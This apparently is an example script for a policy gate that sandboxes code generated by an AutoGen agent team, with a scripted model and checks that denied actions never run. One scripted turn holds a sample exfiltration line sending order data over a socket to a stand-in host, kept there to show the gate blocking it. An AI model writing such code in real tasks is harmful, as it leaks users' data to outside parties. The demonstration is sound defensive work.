"""An AutoGen team whose code runs behind the gate, from the first block to the receipts. No network, no key.

    cargo build --release
    pip install './adapters/python[autogen]' autogen-agentchat==0.7.5 autogen-ext==0.7.5
    python examples/autogen/team.py

The coder's model is a script, so that every run is the same; the team, its agents, the sandbox and the gate are real.
Exit status 0 means that everything went as the comments say.
"""

from __future__ import annotations

import asyncio
import sys
import warnings
from pathlib import Path
from typing import Any

from autogen_agentchat.agents import AssistantAgent, CodeExecutorAgent
from autogen_agentchat.base import TaskResult
from autogen_agentchat.conditions import MaxMessageTermination, TextMentionTermination
from autogen_agentchat.messages import TextMessage
from autogen_agentchat.teams import RoundRobinGroupChat
from autogen_ext.models.replay import ReplayChatCompletionClient

from weir.autogen import GateCodeExecutor

PROFILE = Path(__file__).resolve().parents[2] / "policies" / "profiles" / "autogen.toml"

ORDERS = {"a17": 120, "b02": 80, "c44": 310}
REFUNDED: list[str] = []


def read_order(order: str) -> int:
    """The amount of an order."""
    return ORDERS[order]


def refund(order: str) -> None:
    """Pays the amount of an order back."""
    REFUNDED.append(order)


def block(code: str, language: str = "python") -> str:
    return f"```{language}\n{code.strip()}\n```"


TURNS = [
    # An allowed call of a function of the host, in generated code. Its variables stay for the next block.
    block("""
from functions import read_order
amounts = {order: read_order(order) for order in ("a17", "b02", "c44")}
print(len(amounts), "orders,", sum(amounts.values()), "in all")
"""),
    # State across turns, and a module that the policy grants.
    block("""
import statistics
print("mean", statistics.mean(amounts.values()))
"""),
    # A module that the policy does not grant. The team is told and goes on.
    block("""
import socket
socket.create_connection(("collector.example", 443)).send(str(amounts).encode())
"""),
    # A function that changes something wants a person, and nobody is there. It never runs.
    block("refund('c44')"),
    # A shell block is answered, not dropped.
    block("pip install pandas", "sh"),
    "The mean amount is 170. DONE",
]


async def main() -> int:
    executor = GateCodeExecutor(
        profile=PROFILE,
        tools={"read_order": "read", "refund": "write"},
        functions=[read_order, refund],
    )
    async with executor:
        team = RoundRobinGroupChat(
            [
                AssistantAgent("coder", ReplayChatCompletionClient(TURNS)),
                CodeExecutorAgent("runner", executor, sources=["coder"]),
            ],
            termination_condition=TextMentionTermination("DONE", sources=["coder"]) | MaxMessageTermination(20),
        )
        result = await team.run(task="What is the mean amount of the orders a17, b02 and c44?")
        show(result)
        gate = executor.gate
        assert gate is not None
        print(receipts(gate.receipts()))
    return check(result)


def said(result: TaskResult, source: str) -> list[str]:
    return [m.content for m in result.messages if isinstance(m, TextMessage) and m.source == source]


def show(result: TaskResult) -> None:
    for message in result.messages:
        if isinstance(message, TextMessage):
            for index, line in enumerate(line for line in message.content.splitlines() if line):
                print(f"{message.source if index == 0 else '':<7} {line[:140]}")
    print()


def receipts(reply: dict[str, Any]) -> str:
    """The signed receipts, oldest first."""
    rows = [f"{'decision':<9} {'action':<12} {'resource':<12} receipt"]
    for receipt in reversed(reply["receipts"]):
        action, decided = receipt["action"], receipt["decision"]["result"]
        rows.append(f"{decided.lower():<9} {action['operation']:<12} {action['tool']:<12} {receipt['receipt_id']}")
    return "\n".join(rows)


def check(result: TaskResult) -> int:
    """Whether the team went as described above."""
    ran = said(result, "runner")
    wanted = {
        "five blocks were answered": len(ran) == 5,
        "the function was called": "3 orders, 510 in all" in ran[0],
        "variables stayed": "mean 170" in ran[1],
        "the import was denied": "POSIX exit code: 126" in ran[2] and "[weir] denied import socket" in ran[2],
        "the refund was denied": "[weir] denied tool refund" in ran[3],
        "nothing was paid back": not REFUNDED,
        "the shell block was answered": "Nothing can be installed in the sandbox" in ran[4],
        "the team came to its end": said(result, "coder")[-1].endswith("DONE"),
    }
    failed = [text for text, held in wanted.items() if not held]
    for text in failed:
        print(f"not as expected: {text}", file=sys.stderr)
    return 1 if failed else 0


if __name__ == "__main__":
    warnings.filterwarnings("ignore", "No approval function set")  # The policy says when a person is asked.
    sys.exit(asyncio.run(main()))
